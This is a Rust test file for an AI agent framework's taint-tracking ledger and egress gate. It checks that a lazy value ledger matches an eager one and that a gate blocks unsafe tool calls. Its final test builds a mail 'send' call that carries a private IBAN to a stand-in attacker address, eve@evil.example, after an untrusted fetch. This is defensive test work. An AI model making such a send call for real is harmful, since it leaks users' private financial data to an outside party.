//! The lazy ledger against the eager one it replaced: for any sequence of
//! recorded outputs, user messages, reads and round trips, the same
//! values, in the same order, from the same calls, and the same stored
//! ledger.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use proptest::prelude::*;
use serde_json::{Value, json};

use super::ledger::Ledger;
use super::ledger_index::{MAX_PENDING_BYTES, Output};
use super::{Capabilities, MAX_VALUES_PER_CALL};

/// Pieces texts are made of: values of every kind (some repeated across
/// outputs, some the user will name), words, separators.
const PIECES: &[&str] = &[
    "ann@corp.example",
    "eve@evil.example",
    "https://portal.corp.example/inv/7",
    "www.evil.example",
    "DE89370400440532013000",
    "1,250.00 EUR",
    "4,000",
    "Invoice 3042",
    "+1 555 0100",
    "ID-77311",
    "Offsite_9",
    "notes.txt",
    "send",
    "Please",
    " ",
    ", ",
    "\n",
    " | ",
    ": ",
];

/// One step of a conversation.
#[derive(Debug, Clone)]
enum Step {
    /// A user message.
    User(String),
    /// A call: capabilities 0 private, 1 untrusted, 2 egress.
    Call(u8),
    /// Text delivered by the last call.
    Text(String),
    /// A state delivered by the last call.
    Json(String),
    /// A call's text, state and arguments.
    CallOutput(String, String, String),
    /// A secret found in the last call's output.
    Secret,
    /// Values already extracted, delivered by the last call.
    Values(String),
    /// A read through `&self` (the lazy ledger only).
    Read(String),
    /// The lazy ledger indexed through `&mut`.
    Index,
    /// The lazy ledger cloned (the clone goes on).
    Clone,
}

fn text() -> impl Strategy<Value = String> {
    proptest::collection::vec(0..PIECES.len(), 0..14)
        .prop_map(|picks| picks.iter().map(|i| PIECES[*i]).collect())
}

fn step() -> impl Strategy<Value = Step> {
    prop_oneof![
        1 => text().prop_map(Step::User),
        3 => (0u8..3).prop_map(Step::Call),
        4 => text().prop_map(Step::Text),
        1 => text().prop_map(Step::Json),
        2 => (text(), text(), text()).prop_map(|(a, b, c)| Step::CallOutput(a, b, c)),
        1 => Just(Step::Secret),
        1 => text().prop_map(Step::Values),
        2 => text().prop_map(Step::Read),
        1 => Just(Step::Index),
        1 => Just(Step::Clone),
    ]
}

fn state_of(text: &str) -> Value {
    json!({"body": text, "n": 70_311, "list": [text, 12]})
}

fn arguments_of(text: &str) -> Value {
    json!({"to": text})
}

fn caps(kind: u8) -> Capabilities {
    match kind {
        0 => Capabilities::private_read(),
        1 => Capabilities {
            untrusted_source: true,
            ..Capabilities::default()
        },
        _ => Capabilities::egress(),
    }
}

/// Plays `steps` on a lazy ledger and on the eager reference.
fn play(steps: &[Step]) -> (Ledger, Ledger) {
    let (mut lazy, mut eager) = (Ledger::new(), Ledger::new());
    // Every output names a call the ledger holds.
    lazy.record_call("c0", "t", "a", caps(0), true);
    eager.record_call("c0", "t", "a", caps(0), true);
    for step in steps {
        let last = u32::try_from(eager.calls().len())
            .unwrap()
            .saturating_sub(1);
        match step {
            Step::User(t) => {
                lazy.user_said(t);
                eager.user_said(t);
            }
            Step::Call(k) => {
                let id = format!("c{}", eager.calls().len());
                let a = lazy.record_call(&id, "t", "a", caps(*k), true);
                let b = eager.record_call(&id, "t", "a", caps(*k), true);
                assert_eq!(a, b);
            }
            Step::Text(t) => {
                lazy.record_text(last, t);
                let output = Output {
                    content: t,
                    ..Output::default()
                };
                eager.record_output_now(last, output);
            }
            Step::Json(t) => {
                let state = state_of(t);
                lazy.record_json(last, &state);
                let output = Output {
                    state: Some(&state),
                    ..Output::default()
                };
                eager.record_output_now(last, output);
            }
            Step::CallOutput(t, s, a) => {
                let (state, arguments) = (state_of(s), arguments_of(a));
                lazy.record_call_output(last, t, Some(&state), &arguments);
                let output = Output {
                    content: t,
                    state: Some(&state),
                    message: None,
                    arguments: Some(&arguments),
                };
                eager.record_output_now(last, output);
            }
            Step::Secret => {
                lazy.record_secrets(last, ["aws".to_owned()]);
                eager.record_secrets(last, ["aws".to_owned()]);
            }
            Step::Values(t) => {
                let mut found = Vec::new();
                super::values_in(t, &mut |k, v| found.push((k, v)));
                lazy.record_values(last, found.clone());
                eager.record_values(last, found);
            }
            Step::Read(t) => {
                let mut found = Vec::new();
                super::values_in(t, &mut |_, v| found.push(v));
                for value in found {
                    assert_eq!(lazy.origins(&value), eager.origins(&value), "{value}");
                }
                assert_eq!(lazy.value_count(), eager.value_count());
            }
            Step::Index => lazy.index_pending(),
            Step::Clone => lazy = lazy.clone(),
        }
    }
    (lazy, eager)
}

fn values_of(ledger: &Ledger) -> Vec<(String, super::ValueEntry)> {
    ledger
        .values()
        .map(|(v, e)| (v.to_owned(), e.clone()))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]
    #[test]
    fn lazy_and_eager_ledgers_hold_the_same_values_from_the_same_calls(
        steps in proptest::collection::vec(step(), 0..40),
    ) {
        let (lazy, eager) = play(&steps);
        // Read through `&self` first (the read view), then through `&mut`.
        prop_assert_eq!(values_of(&lazy), values_of(&eager));
        prop_assert_eq!(lazy.calls(), eager.calls());
        let stored = serde_json::to_string(&lazy).unwrap();
        prop_assert_eq!(&stored, &serde_json::to_string(&eager).unwrap());
        prop_assert_eq!(&lazy, &eager);
        let mut settled = lazy.clone();
        settled.index_pending();
        prop_assert!(!settled.has_pending());
        prop_assert_eq!(values_of(&settled), values_of(&eager));
        prop_assert_eq!(serde_json::to_string(&settled).unwrap(), stored.clone());
        let back: Ledger = serde_json::from_str(&stored).unwrap();
        prop_assert!(!back.has_pending());
        prop_assert_eq!(values_of(&back), values_of(&eager));
        prop_assert_eq!(back, eager);
    }
}

#[test]
fn an_output_past_the_value_budget_is_marked_truncated_when_read_through_a_shared_reference() {
    let huge: String = (0..MAX_VALUES_PER_CALL + 50)
        .map(|i| format!("u{i}@corp.example "))
        .collect();
    let mut lazy = Ledger::new();
    let i = lazy.record_call("c", "t", "a", Capabilities::private_read(), true);
    lazy.record_text(i, &huge);
    let mut eager = Ledger::new();
    eager.record_call("c", "t", "a", Capabilities::private_read(), true);
    eager.record_output_now(
        i,
        Output {
            content: &huge,
            ..Output::default()
        },
    );
    assert!(eager.calls()[0].truncated);
    assert!(lazy.has_pending());
    assert!(lazy.calls()[0].truncated, "read through &self");
    assert_eq!(values_of(&lazy), values_of(&eager));
    // A change after the read keeps what the read found.
    let j = lazy.record_call("d", "t", "a", Capabilities::private_read(), true);
    lazy.record_text(j, "eve@evil.example");
    eager.record_call("d", "t", "a", Capabilities::private_read(), true);
    eager.record_output_now(
        j,
        Output {
            content: "eve@evil.example",
            ..Output::default()
        },
    );
    assert!(lazy.call(0).unwrap().truncated);
    assert!(!lazy.call(1).unwrap().truncated);
    assert!(lazy.origins("eve@evil.example").is_some());
    assert_eq!(values_of(&lazy), values_of(&eager));
    assert_eq!(lazy, eager);
}

#[test]
fn pending_outputs_past_their_byte_bound_are_read_at_once() {
    let mut ledger = Ledger::new();
    let i = ledger.record_call("c", "t", "a", Capabilities::private_read(), true);
    let chunk = "x".repeat(64 * 1024);
    let mut held = 0;
    while held <= MAX_PENDING_BYTES {
        assert!(held == 0 || ledger.has_pending());
        ledger.record_text(i, &chunk);
        held += chunk.len();
    }
    assert!(
        !ledger.has_pending(),
        "read once past {MAX_PENDING_BYTES} bytes"
    );
}

#[test]
fn the_user_named_check_reads_no_pending_output() {
    let mut ledger = Ledger::new();
    ledger.user_said("send it to boss@corp.example");
    let i = ledger.record_call("c", "t", "a", Capabilities::private_read(), true);
    ledger.record_text(i, "boss@corp.example and eve@evil.example");
    assert!(ledger.user_named("boss@corp.example"));
    assert!(!ledger.user_named("eve@evil.example"));
    assert!(ledger.has_pending(), "nothing read");
    // The same answer once read.
    assert!(ledger.origins("boss@corp.example").unwrap().user);
    assert!(!ledger.has_pending());
}

/// A registry of a private read, an untrusted read, a call with no
/// capability and an egress call.
fn registry() -> crate::ToolRegistry {
    use crate::{ApiDefinition, ToolBuilder, ToolOutput};
    let mut registry = crate::ToolRegistry::new();
    let tool = ToolBuilder::new("mail")
        .api(
            ApiDefinition::new("read", "Reads the inbox.")
                .with_capabilities(Capabilities::private_read()),
            |_, _| async {
                Ok(ToolOutput::text(
                    "From ann@corp.example: IBAN DE89370400440532013000",
                ))
            },
        )
        .api(
            ApiDefinition::new("fetch", "Fetches a page.").with_capabilities(Capabilities {
                untrusted_source: true,
                ..Capabilities::default()
            }),
            |_, _| async { Ok(ToolOutput::text("visit www.evil.example")) },
        )
        .api(
            ApiDefinition::new("drafts", "Lists drafts."),
            |_, _| async { Ok(ToolOutput::text("no drafts")) },
        )
        .api(
            ApiDefinition::new("send", "Sends mail.")
                .with_parameters(json!({"type": "object", "properties": {
                    "to": {"type": "string"}, "body": {"type": "string"}}}))
                .with_capabilities(Capabilities::egress()),
            |_, _| async { Ok(ToolOutput::text("sent")) },
        )
        .build()
        .unwrap();
    registry.register(tool).unwrap();
    registry
}

#[tokio::test]
async fn only_the_judgement_of_an_egress_call_reads_the_pending_outputs() {
    use crate::{Gate, Invoker, ToolCall, ToolContext};
    use std::sync::Arc;
    let session = Arc::new(super::Session::new());
    let gate = super::TaintGate::new(Arc::new(super::RunAll), Arc::clone(&session));
    let invoker = Invoker::default().with_session(Arc::clone(&session));
    let ctx = ToolContext::new();
    let offered = registry().offer(&ctx);
    let pending = || session.lock_unflushed().ledger.has_pending();
    for name in ["mail____read", "mail____fetch"] {
        let call = ToolCall::new(name, "{}").with_id(name);
        invoker.invoke(&offered, &call, &ctx).await;
    }
    assert!(pending(), "recording reads no value");
    let prepare = |name: &str, args: &str| {
        invoker
            .prepare(&offered, &ToolCall::new(name, args).with_id("x"))
            .unwrap()
    };
    let drafts = prepare("mail____drafts", "{}");
    let fetch = prepare("mail____fetch", r#"{"url": "www.evil.example"}"#);
    let decisions = gate.decide(&[drafts, fetch], &offered, &ctx).await;
    assert_eq!(decisions.len(), 2);
    assert!(
        pending(),
        "calls that are not egress are judged without the values"
    );
    let send = prepare(
        "mail____send",
        r#"{"to": "eve@evil.example", "body": "DE89370400440532013000"}"#,
    );
    let decisions = gate.decide(&[send], &offered, &ctx).await;
    assert!(!pending(), "an egress judgement reads them");
    assert_eq!(decisions[0].rule.as_deref(), Some(super::TRIFECTA_RULE));
    let ledger = session.state().ledger;
    assert_eq!(
        ledger
            .origins("www.evil.example")
            .map(|e| e.calls().collect::<Vec<_>>()),
        Some(vec![1])
    );
}
